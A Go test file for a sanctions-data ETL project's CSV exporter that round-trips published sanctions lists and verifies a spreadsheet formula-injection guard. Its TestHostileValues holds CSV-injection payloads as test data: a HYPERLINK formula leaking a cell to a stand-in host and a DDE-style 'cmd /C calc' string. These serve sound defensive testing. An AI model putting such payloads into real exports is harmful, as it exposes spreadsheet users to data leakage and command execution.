package csvexport_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/sanctions-etl/sanctions-etl/csvexport"
	"github.com/sanctions-etl/sanctions-etl/entity"
	"github.com/sanctions-etl/sanctions-etl/normalize"
	"github.com/sanctions-etl/sanctions-etl/sources"
	"github.com/sanctions-etl/sanctions-etl/sources/csl"
	"github.com/sanctions-etl/sanctions-etl/sources/dfat"
	"github.com/sanctions-etl/sanctions-etl/sources/eu"
	"github.com/sanctions-etl/sanctions-etl/sources/ofac"
	"github.com/sanctions-etl/sanctions-etl/sources/seco"
	"github.com/sanctions-etl/sanctions-etl/sources/sema"
	"github.com/sanctions-etl/sanctions-etl/sources/sourcetest"
	"github.com/sanctions-etl/sanctions-etl/sources/uk"
	"github.com/sanctions-etl/sanctions-etl/sources/un"
)

// publication is one real test publication.
type publication struct {
	name string
	src  func(t testing.TB) sources.Source
	dir  string
}

// corpus: one publication of every source. The CSL's 2023 CSV as archived
// is cut inside its last row (the source refuses it), so its JSON
// rendering stands in.
var corpus = []publication{
	{"us_ofac_sdn 2021-07-07", func(testing.TB) sources.Source { return ofac.NewSDN(ofac.Config{}) }, "../testdata/us_ofac_sdn/2021-07-07"},
	{"us_ofac_cons 2020-03-17", func(testing.TB) sources.Source { return ofac.NewConsolidated(ofac.Config{}) }, "../testdata/us_ofac_cons/2020-03-17"},
	{"un_sc 2026-02-27", func(testing.TB) sources.Source { return un.New(un.Config{}) }, "../testdata/un_sc/2026-02-27"},
	{"eu_fsf excerpt", func(testing.TB) sources.Source { return eu.New(eu.Config{}) }, "../testdata/eu_fsf/excerpt-2026-08-05"},
	{"gb_fcdo excerpt", func(testing.TB) sources.Source { return uk.New(uk.Config{}) }, "../testdata/gb_fcdo/excerpt-2026-08-14"},
	{"us_trade_csl 2023-11-30 json", func(testing.TB) sources.Source { return csl.New(csl.Config{}) }, "../testdata/us_trade_csl/derived-2023-11-30-json"},
	{"au_dfat 2026-02-24", func(t testing.TB) sources.Source { return dfat.New(dfat.Config{TempDir: t.TempDir()}) }, "../testdata/au_dfat/2026-02-24"},
	{"ch_seco excerpt", func(testing.TB) sources.Source { return seco.New(seco.Config{}) }, "../testdata/ch_seco/excerpt-2026-08-15"},
	{"ca_sema 2020-04-15", func(testing.TB) sources.Source { return sema.New(sema.Config{}) }, "../testdata/ca_sema/2020-04-15"},
}

// entities parses p and completes its entities as the pipeline does
// (normalize.Entity, then Canonicalize), sorted by id.
func entities(t testing.TB, p publication) []*entity.Entity {
	t.Helper()
	parsed, err := sourcetest.Parse(t, p.src(t), p.dir)
	if err != nil {
		t.Fatalf("%s: %v", p.name, err)
	}
	var cov normalize.Coverage
	for _, e := range parsed.Entities {
		normalize.Entity(e, &cov)
		e.Canonicalize()
	}
	return parsed.Entities
}

func export(t testing.TB, es []*entity.Entity) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := csvexport.NewWriter(&buf)
	for _, e := range es {
		if err := w.Write(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// readBack checks the BOM and parses the rest with encoding/csv.
func readBack(t *testing.T, data []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(data, []byte(csvexport.BOM))
	if !ok {
		t.Fatalf("no BOM: starts %q", data[:min(len(data), 8)])
	}
	r := csv.NewReader(bytes.NewReader(rest))
	r.FieldsPerRecord = len(csvexport.Header())
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) == 0 || !slices.Equal(rows[0], csvexport.Header()) {
		t.Fatalf("header %q", rows[:min(len(rows), 1)])
	}
	return rows
}

// unquote undoes the formula guard: an apostrophe before a character a
// spreadsheet would evaluate. Written apart from the package's code, from
// docs/csv.md.
func unquote(c string) string {
	if len(c) > 1 && c[0] == '\'' && strings.ContainsRune("=+-@\t\r\n", rune(c[1])) {
		return c[1:]
	}
	return c
}

// split undoes a multi-valued cell: " | " separates, "||" is a "|".
func split(c string) []string {
	c = unquote(c)
	if c == "" {
		return nil
	}
	var out []string
	var cur strings.Builder
	for i := 0; i < len(c); i++ {
		switch {
		case c[i] == '|' && i+1 < len(c) && c[i+1] == '|':
			cur.WriteByte('|')
			i++
		case strings.HasPrefix(c[i:], "| ") && strings.HasSuffix(cur.String(), " "):
			s := cur.String()
			out = append(out, s[:len(s)-1])
			cur.Reset()
			i++ // the space after the bar
		default:
			cur.WriteByte(c[i])
		}
	}
	return append(out, cur.String())
}

// clean is what the export promises to keep of a value: trimmed in a
// multi-valued cell, every line break an LF.
func clean(v string) string {
	return strings.ReplaceAll(strings.ReplaceAll(strings.TrimSpace(v), "\r\n", "\n"), "\r", "\n")
}

// col is the index of a header name.
func col(name string) int { return slices.Index(csvexport.Header(), name) }

// TestRealPublications writes every real test publication and reads it
// back: one row per entity after the header, every id once, every name
// and alias in its entity's row, single values unchanged, and the
// characters that break naive CSV (quotes, commas, line breaks,
// semicolons, non-Latin letters) seen in the corpus and surviving.
func TestRealPublications(t *testing.T) {
	features := map[string]int{}
	neutralized := map[string]string{} // entity id -> a cell that got the apostrophe
	for _, p := range corpus {
		es := entities(t, p)
		rows := readBack(t, export(t, es))
		if len(rows) != len(es)+1 {
			t.Fatalf("%s: %d rows for %d entities (+ header)", p.name, len(rows), len(es))
		}
		seenID := map[string]bool{}
		for i, e := range es {
			row := rows[i+1]
			if row[col("id")] != e.ID || seenID[e.ID] {
				t.Fatalf("%s: row %d has id %q, entity %s (seen before: %v)", p.name, i+1, row[col("id")], e.ID, seenID[e.ID])
			}
			seenID[e.ID] = true
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+-@\t\r\n", rune(c[0])) {
					t.Errorf("%s: %s: cell %q would be evaluated as a formula", p.name, e.ID, c)
				}
				if c != unquote(c) {
					neutralized[e.ID] = c
				}
			}
			checkRow(t, p.name, e, row, features)
		}
		t.Logf("%s: %d entities, %d rows", p.name, len(es), len(rows))
	}
	for _, f := range []string{`"`, ",", "\n", ";", "|", "non-Latin", "annotated name", "qualified country"} {
		if features[f] == 0 {
			t.Errorf("no value of the corpus holds %q: the round trip of it is untested", f)
		}
		t.Logf("values holding %q: %d", f, features[f])
	}
	// The legitimate values that start like a formula, pinned: an alias
	// of the CSL's Entity List, a DFAT remark that is a phone number.
	for id, want := range map[string]string{
		"us_trade_csl-EL-751253889ecc815e": "'-VPK NPO Mashinostroeniya",
		"au_dfat-2591":                     "'+9821-8875 1749",
	} {
		if c, ok := neutralized[id]; !ok || !strings.HasPrefix(c, want) {
			t.Errorf("%s: neutralized cell %q, want one starting %q", id, c, want)
		}
	}
	t.Logf("%d rows have a neutralized cell", len(neutralized))
}

// checkRow compares one row with its entity and counts the features of
// the values it checked.
func checkRow(t *testing.T, src string, e *entity.Entity, row []string, features map[string]int) {
	t.Helper()
	count := func(v string) {
		for _, f := range []string{`"`, ",", "\n", ";", "|"} {
			if strings.Contains(v, f) {
				features[f]++
			}
		}
		if s := normalize.Script(v); s != "" && s != "Latn" {
			features["non-Latin"]++
		}
	}
	single := map[string]string{"source": e.Source, "type": string(e.Type), "name": e.Name, "listed_on": e.ListedOn, "remarks": e.Remarks}
	for c, want := range single {
		if got := unquote(row[col(c)]); got != clean(want) && got != want {
			t.Errorf("%s: %s: %s = %q, want %q", src, e.ID, c, got, want)
		}
		count(want)
	}
	aliases := split(row[col("aliases")])
	bare := clean(normalize.StripAnnotations(e.Name))
	for _, n := range e.Names {
		v := clean(n.Value)
		isName := v == clean(e.Name) || n.Kind == entity.KindPrimary && v == bare
		if !isName && !slices.Contains(aliases, v) {
			t.Errorf("%s: %s: name %q neither the name %q nor among the aliases %q", src, e.ID, n.Value, e.Name, aliases)
		}
		count(n.Value)
	}
	for _, a := range aliases {
		if !slices.ContainsFunc(e.Names, func(n entity.Name) bool { return clean(n.Value) == a }) {
			t.Errorf("%s: %s: alias %q is not a name of the entity", src, e.ID, a)
		}
		// The name less its annotation ("Gazprom Telekom, OOO" of
		// "Gazprom Telekom, OOO (f.k.a. ...)") is the name, not an alias,
		// unless the entity lists it again as one.
		if a == bare && bare != clean(e.Name) &&
			!slices.ContainsFunc(e.Names, func(n entity.Name) bool { return n.Kind != entity.KindPrimary && clean(n.Value) == a }) {
			t.Errorf("%s: %s: the name %q less its annotation is among the aliases", src, e.ID, e.Name)
		}
	}
	if bare != clean(e.Name) {
		features["annotated name"]++
	}
	nats := split(row[col("nationalities")])
	for _, c := range e.Nationalities {
		if c.Code != "" && c.Qualifier != "" {
			features["qualified country"]++
			if want := c.Code + " (" + c.Qualifier + ")"; !slices.Contains(nats, want) {
				t.Errorf("%s: %s: nationality %+v: %q not in %q", src, e.ID, c, want, nats)
			}
		}
	}
	if got := split(row[col("programs")]); !slices.Equal(got, distinct(e.Programs)) {
		t.Errorf("%s: %s: programs %q, want %q", src, e.ID, got, e.Programs)
	}
	for _, a := range e.Addresses {
		if a.Full == "" {
			continue
		}
		if !slices.Contains(split(row[col("addresses")]), clean(a.Full)) {
			t.Errorf("%s: %s: address %q not in %q", src, e.ID, a.Full, row[col("addresses")])
		}
		count(a.Full)
	}
	ids := split(row[col("identifiers")])
	for _, id := range e.Identifiers {
		v := id.Raw
		if v == "" {
			v = id.Value
		}
		if !slices.ContainsFunc(ids, func(s string) bool { return strings.Contains(s, clean(v)) }) {
			t.Errorf("%s: %s: identifier %q not in %q", src, e.ID, v, ids)
		}
		count(v)
	}
	if len(e.Nationalities) > 0 && len(split(row[col("nationalities")])) == 0 {
		t.Errorf("%s: %s: nationalities %v, cell empty", src, e.ID, e.Nationalities)
	}
	if got, want := len(split(row[col("birth_dates")])), len(distinct(dateTexts(e.BirthDates))); got != want {
		t.Errorf("%s: %s: %d birth dates in %q, want %d of %+v", src, e.ID, got, row[col("birth_dates")], want, e.BirthDates)
	}
}

func distinct(vs []string) []string {
	var out []string
	for _, v := range vs {
		if v = clean(v); v != "" && !slices.Contains(out, v) {
			out = append(out, v)
		}
	}
	return out
}

func dateTexts(ds []entity.Date) []string {
	var out []string
	for _, d := range ds {
		// A parsed date is its value: the same day printed twice (the
		// UN's 1982-04-18 and its Hijri 24/06/1402) is one date.
		text := d.Value + d.From + "/" + d.To
		if text == "/" {
			text = d.Raw
		}
		out = append(out, text+map[bool]string{true: "~"}[d.Approximate])
	}
	return out
}

// TestRecordsByScanner counts the records of every real export with a
// plain byte scanner, independent of encoding/csv: a record ends at a CRLF
// outside quotes. It also checks that no CR stands anywhere else and that
// line breaks inside cells are a bare LF (what Excel writes and reads
// back as a line break inside the cell).
func TestRecordsByScanner(t *testing.T) {
	total := 0
	for _, p := range corpus {
		es := entities(t, p)
		records, inCell := scan(t, p.name, export(t, es)[len(csvexport.BOM):])
		if records != len(es)+1 {
			t.Errorf("%s: %d records for %d entities + header", p.name, records, len(es))
		}
		total += inCell
		t.Logf("%s: %d records, %d line breaks inside cells", p.name, records, inCell)
	}
	if total == 0 {
		t.Error("no line break inside a cell: the DFAT remarks hold some")
	}
}

// scan returns the number of records of data and of line breaks inside
// quoted cells.
func scan(t *testing.T, name string, data []byte) (records, inCell int) {
	t.Helper()
	fields := 1
	inQuote := false
	for i := 0; i < len(data); i++ {
		switch b := data[i]; {
		case b == '"':
			inQuote = !inQuote
		case b == '\r':
			if inQuote || i+1 == len(data) || data[i+1] != '\n' {
				t.Fatalf("%s: CR at byte %d not a row end (in quotes: %v)", name, i, inQuote)
			}
		case b == '\n' && inQuote:
			inCell++
		case b == '\n':
			if data[i-1] != '\r' {
				t.Fatalf("%s: row end at byte %d without CR", name, i)
			}
			if fields != len(csvexport.Header()) {
				t.Fatalf("%s: record %d has %d fields", name, records+1, fields)
			}
			records++
			fields = 1
		case b == ',' && !inQuote:
			fields++
		}
	}
	if inQuote || !bytes.HasSuffix(data, []byte("\r\n")) {
		t.Fatalf("%s: file ends inside quotes (%v) or without CRLF", name, inQuote)
	}
	return records, inCell
}

// TestDeterministic: two parses of one publication give the same bytes.
func TestDeterministic(t *testing.T) {
	for _, p := range []publication{corpus[0], corpus[2]} {
		a, b := export(t, entities(t, p)), export(t, entities(t, p))
		if !bytes.Equal(a, b) {
			t.Errorf("%s: two exports differ", p.name)
		}
	}
}

// TestHostileValues puts values a spreadsheet would evaluate, and the
// separator and line breaks, into a real entity (UN's first) and reads
// them back.
func TestHostileValues(t *testing.T) {
	base := entities(t, corpus[2])[0]
	cases := []struct {
		name, remarks string
		aliases       []string
		wantName      string // the cell as written
		wantRemarks   string
	}{
		{name: `=HYPERLINK("http://x.example/?"&A1,"click")`, wantName: `'=HYPERLINK("http://x.example/?"&A1,"click")`},
		{name: "@SUM(1+1)*cmd|' /C calc'!A0", wantName: "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{name: "-0-", wantName: "'-0-"},
		{name: "+375 (17) 291-31-92", wantName: "'+375 (17) 291-31-92"},
		{name: "\tTAB", wantName: "'\tTAB"},
		{name: "\rCR", wantName: "'\nCR"},
		{name: "'ABDUL-GHANI", wantName: "'ABDUL-GHANI"}, // an apostrophe of the name itself stays as is
		{name: "A", aliases: []string{"=1+1", "B | C", "D|E", "D|E ", "F||"}, remarks: "one\r\ntwo\rthree\nfour"},
	}
	for _, c := range cases {
		e := *base
		e.Name, e.Remarks = c.name, c.remarks
		e.Names = []entity.Name{{Value: c.name, Kind: entity.KindPrimary}}
		for _, a := range c.aliases {
			e.Names = append(e.Names, entity.Name{Value: a, Kind: entity.KindAlias})
		}
		data := export(t, []*entity.Entity{&e})
		row := readBack(t, data)[1]
		if c.wantName != "" && row[col("name")] != c.wantName {
			t.Errorf("name %q written %q, want %q", c.name, row[col("name")], c.wantName)
		}
		if c.aliases != nil {
			if got, want := split(row[col("aliases")]), distinct(c.aliases); !slices.Equal(got, want) {
				t.Errorf("aliases %q written %q, read back %q", c.aliases, row[col("aliases")], got)
			}
			if got, want := row[col("remarks")], "one\ntwo\nthree\nfour"; got != want {
				t.Errorf("remarks %q read back %q, want %q", c.remarks, got, want)
			}
			// In the file, the line breaks inside the cell are bare LF.
			if !bytes.Contains(data, []byte("\"one\ntwo\nthree\nfour\"\r\n")) {
				t.Errorf("remarks not written with LF inside and CRLF after: %q", data)
			}
		}
	}
}

// TestEmpty: an export without entities is the BOM and the header.
func TestEmpty(t *testing.T) {
	got := string(export(t, nil))
	if want := csvexport.BOM + strings.Join(csvexport.Header(), ",") + "\r\n"; got != want {
		t.Errorf("empty export %q, want %q", got, want)
	}
}

type failWriter struct{ after int }

var errDisk = errors.New("disk full")

func (f *failWriter) Write(p []byte) (int, error) {
	if f.after -= len(p); f.after < 0 {
		return 0, errDisk
	}
	return len(p), nil
}

// TestWriteErrors: a failing underlying writer reaches the caller, and a
// write after Close is refused.
func TestWriteErrors(t *testing.T) {
	es := entities(t, corpus[2])
	w := csvexport.NewWriter(&failWriter{after: 100 << 10})
	var err error
	for _, e := range es {
		if err = w.Write(e); err != nil {
			break
		}
	}
	if err == nil {
		err = w.Close()
	}
	if !errors.Is(err, errDisk) {
		t.Errorf("error %v, want %v", err, errDisk)
	}
	w = csvexport.NewWriter(io.Discard)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := w.Write(es[0]); err == nil {
		t.Error("write after close succeeded")
	}
}

// BenchmarkWrite exports SDN 2021-07-07 against a floor: encoding/csv
// writing the same rows with id and name only.
func BenchmarkWrite(b *testing.B) {
	es := entities(b, corpus[0])
	b.Run("export", func(b *testing.B) {
		var n int64
		for b.Loop() {
			cw := &countWriter{}
			w := csvexport.NewWriter(cw)
			for _, e := range es {
				if err := w.Write(e); err != nil {
					b.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				b.Fatal(err)
			}
			n = cw.n
		}
		b.SetBytes(n)
		b.ReportMetric(float64(len(es)), "rows/op")
	})
	b.Run("floor-id-name", func(b *testing.B) {
		var n int64
		for b.Loop() {
			cw := &countWriter{}
			w := csv.NewWriter(cw)
			w.UseCRLF = true
			for _, e := range es {
				if err := w.Write([]string{e.ID, e.Name}); err != nil {
					b.Fatal(err)
				}
			}
			w.Flush()
			if err := w.Error(); err != nil {
				b.Fatal(err)
			}
			n = cw.n
		}
		b.SetBytes(n)
		b.ReportMetric(float64(len(es)), "rows/op")
	})
}

type countWriter struct{ n int64 }

func (c *countWriter) Write(p []byte) (int, error) {
	c.n += int64(len(p))
	return len(p), nil
}
